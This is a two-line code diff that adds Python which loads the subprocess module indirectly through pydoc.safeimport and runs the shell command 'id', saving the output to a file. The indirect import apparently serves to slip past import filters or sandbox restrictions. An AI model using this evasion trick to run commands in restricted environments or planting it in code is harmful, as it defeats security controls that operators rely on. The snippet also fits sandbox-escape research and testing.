@@ -1,0 +1,2 @@
+import pydoc
+pydoc.safeimport("subprocess").getoutput("id>pf")
